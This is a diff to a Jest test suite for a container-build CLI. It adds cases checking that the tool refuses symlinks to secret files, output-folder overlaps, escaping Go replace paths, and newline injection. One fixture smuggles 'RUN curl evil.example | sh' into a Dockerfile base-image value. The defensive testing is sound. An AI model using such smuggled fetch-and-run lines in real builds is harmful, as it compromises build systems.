@@ -9,9 +9,16 @@
  */
 import { afterAll, describe, expect, it } from '@jest/globals'
 import { execFileSync } from 'node:child_process'
-import { chmodSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { halfWritten, makeWorkspace, runCli, type CaseWorkspace } from './support/workspace.js'
+import {
+  halfWritten,
+  makeWorkspace,
+  runCli,
+  seedPreviousOutput,
+  snapshot,
+  type CaseWorkspace
+} from './support/workspace.js'
 
 interface Case {
   name: string
@@ -36,6 +43,8 @@ interface Case {
 
 const GOOD = ['--policies', 'policies/allow']
 const FIX = /\(fix: [^)]{10,}/
+/** Written where a leak would show: no message may ever carry it. */
+const SECRET = 'ghp_corpusSecretThatMustNeverBePrinted0001'
 
 function goMod(module: string): Record<string, string> {
   return {
@@ -656,6 +665,173 @@ const cases: Case[] = [
     where:
       /<ws>\/policies\/allow\/go\.mod:3: go: module example\.com\/corpus\/allow requires go 1\.22, but the Go toolchain on PATH is go1\.20\.14/,
     fix: /install Go 1\.\d+ or newer/
+  },
+  // --- The trust boundary (issue 11): what a pull request controls cannot leak, inject or delete.
+  {
+    name: 'go.mod is a link to a secret file outside the workspace (never read)',
+    fixture: 'good',
+    setup: w => {
+      writeFileSync(join(w.root, 'secret.env'), `TOKEN=${SECRET}\n`)
+      rmSync(join(w.ws, 'policies/allow/go.mod'))
+      symlinkSync(join(w.root, 'secret.env'), join(w.ws, 'policies/allow/go.mod'))
+    },
+    command: 'plan',
+    argv: () => GOOD,
+    code: 2,
+    where:
+      /<ws>\/policies\/allow\/go\.mod: is a symbolic link to a file or folder outside the workspace/
+  },
+  {
+    name: 'a Go source file is a link outside the workspace',
+    fixture: 'good',
+    setup: w => {
+      writeFileSync(join(w.root, 'outside.go'), 'package allow\n')
+      symlinkSync(join(w.root, 'outside.go'), join(w.ws, 'policies/allow/extra.go'))
+    },
+    argv: () => [...GOOD, '--output', 'none'],
+    code: 2,
+    where: /<ws>\/policies\/allow\/extra\.go: is a symbolic link/
+  },
+  {
+    name: 'a template is a link outside the workspace',
+    fixture: 'good',
+    setup: w => {
+      writeFileSync(join(w.root, 'Dockerfile.hbs'), `FROM scratch\n# ${SECRET}\n`)
+      mkdirSync(join(w.ws, 'tpl'))
+      symlinkSync(join(w.root, 'Dockerfile.hbs'), join(w.ws, 'tpl/Dockerfile.hbs'))
+    },
+    command: 'generate',
+    argv: () => [...GOOD, '--templates', 'tpl'],
+    code: 2,
+    where:
+      /templates: .*<ws>\/tpl\/Dockerfile\.hbs.*symbolic link|<ws>\/tpl\/Dockerfile\.hbs: templates: is a symbolic link/
+  },
+  {
+    name: 'generate --out the workspace itself, which holds a committed marker',
+    fixture: 'good',
+    files: { '.policy-engine-build': 'committed by a pull request\n' },
+    command: 'generate',
+    argv: w => [...GOOD, '--out', w.ws],
+    code: 2,
+    where: /out: the output folder .* is the workspace/
+  },
+  {
+    name: '--out inside a policy module',
+    fixture: 'good',
+    command: 'generate',
+    argv: w => [...GOOD, '--out', join(w.ws, 'policies/allow/out')],
+    code: 2,
+    where: /out: the output folder .* overlaps the policies folder/
+  },
+  {
+    name: '--out below an existing file',
+    fixture: 'good',
+    files: { 'a-file': 'x\n' },
+    argv: w => [...GOOD, '--output', 'none', '--out', join(w.ws, 'a-file/out')],
+    code: 2,
+    where: /out: .*a-file, on the way to the output folder, is a file/
+  },
+  {
+    name: 'a manifest base image holding a newline, with a template that writes it raw',
+    fixture: 'good',
+    files: {
+      'tpl/Dockerfile.hbs': 'FROM {{{baseImage}}}\nCOPY bin/${TARGETPLATFORM}/policy-engine /e\n',
+      ...manifest('version: 1\nimage:\n  base: "alpine:3\\nRUN curl evil.example | sh"\n')
+    },
+    command: 'plan',
+    argv: () => [...GOOD, '--templates', 'tpl'],
+    code: 2,
+    where: /image\.base: not a valid image reference/
+  },
+  {
+    name: 'a label value holding a newline',
+    fixture: 'good',
+    command: 'plan',
+    argv: () => [...GOOD, '--labels', 'a=b\nRUN x'],
+    code: 2,
+    where: /labels: .*line 2 "RUN x" has no '='|labels: the value of label/
+  },
+  {
+    name: 'a build arg without = (buildx would copy it from its own environment)',
+    fixture: 'good',
+    command: 'plan',
+    argv: () => [...GOOD, '--build-args', 'INPUT_PASSWORD'],
+    code: 2,
+    where: /build-args: line 1 "INPUT_PASSWORD" is not KEY=value/
+  },
+  {
+    name: 'a version holding quotes',
+    fixture: 'good',
+    argv: () => [...GOOD, '--output', 'none', '--version', `1.0"'`],
+    code: 2,
+    where: /version: .* cannot be a version/
+  },
+  {
+    name: 'a policy folder whose name holds a newline, found by a glob',
+    fixture: 'good',
+    setup: w => {
+      mkdirSync(join(w.ws, 'policies/evil\nname'))
+      writeFileSync(
+        join(w.ws, 'policies/evil\nname/go.mod'),
+        'module example.com/evil\n\ngo 1.22\n'
+      )
+    },
+    command: 'plan',
+    argv: () => ['--policies', 'policies/*'],
+    code: 2,
+    where: /policies: the path .* holds a control character/
+  },
+  {
+    name: 'a package folder whose name is not an import path element (a space)',
+    fixture: 'good',
+    files: {
+      'policies/allow/my checks/deny.go':
+        'package checks\n\nimport "context"\n\ntype Deny struct{}\n\n' +
+        'func (Deny) Name() string { return "deny" }\n' +
+        'func (Deny) Execute(_ context.Context, in any) (any, error) { return in, nil }\n' +
+        'func (Deny) Validate() error { return nil }\n'
+    },
+    command: 'generate',
+    argv: () => GOOD,
+    code: 2,
+    where: /<ws>\/policies\/allow\/my checks: the folder of package .* cannot be imported/
+  },
+  {
+    name: "a policy module declaring the engine's module path",
+    files: goMod('github.com/policy-engine-build/engine/policies'),
+    command: 'plan',
+    argv: () => ['--policies', 'policies/p'],
+    code: 2,
+    where: /<ws>\/policies\/p\/go\.mod:1: module: module path .* is the engine's own/
+  },
+  {
+    name: 'a policy module requiring the engine module',
+    files: {
+      ...goMod('example.com/corpus/needs-engine'),
+      'policies/p/go.mod':
+        'module example.com/corpus/needs-engine\n\ngo 1.22\n\nrequire github.com/policy-engine-build/engine v0.0.0\n'
+    },
+    command: 'plan',
+    argv: () => ['--policies', 'policies/p'],
+    code: 2,
+    where: /<ws>\/policies\/p\/go\.mod: require: module .* requires the engine module/
+  },
+  {
+    name: 'a local replace leaving the workspace',
+    files: {
+      ...goMod('example.com/corpus/replaced'),
+      'policies/p/go.mod':
+        'module example.com/corpus/replaced\n\ngo 1.22\n\nrequire example.com/kit v0.0.0\n\nreplace example.com/kit => ../../../kit\n'
+    },
+    setup: w => {
+      mkdirSync(join(w.root, 'kit'))
+      writeFileSync(join(w.root, 'kit/go.mod'), 'module example.com/kit\n\ngo 1.22\n')
+    },
+    command: 'plan',
+    argv: () => ['--policies', 'policies/p'],
+    code: 2,
+    where:
+      /<ws>\/policies\/p\/go\.mod:7: replace: replace example\.com\/kit => \.\.\/\.\.\/\.\.\/kit leaves the workspace/
   }
 ]
 
@@ -676,8 +852,11 @@ describe(`bad-input corpus (${cases.length} cases): exit code, where, fix, nothi
       const w = makeWorkspace(c.fixture, c.files)
       roots.push(w.root)
       c.setup?.(w)
+      // The previous output of a build: a refused input must leave it exactly as it was.
+      if (!existsSync(w.out)) seedPreviousOutput(w.out)
+      const before = snapshot(w.out)
       const argv = [
-        'build',
+        c.command ?? 'build',
         '--working-directory',
         w.ws,
         '--out',
@@ -703,13 +882,17 @@ describe(`bad-input corpus (${cases.length} cases): exit code, where, fix, nothi
         where: stderr,
         fix: stderr,
         stdout: result.stdout,
-        written: halfWritten(w.out)
+        written: halfWritten(w.out),
+        out: snapshot(w.out),
+        leaked: stderr.includes(SECRET)
       }).toEqual({
         code: c.code,
         where: expect.stringMatching(c.where),
         fix: expect.stringMatching(c.fix ?? FIX),
         stdout: '',
-        written: []
+        written: [],
+        out: before,
+        leaked: false
       })
     },
     120_000
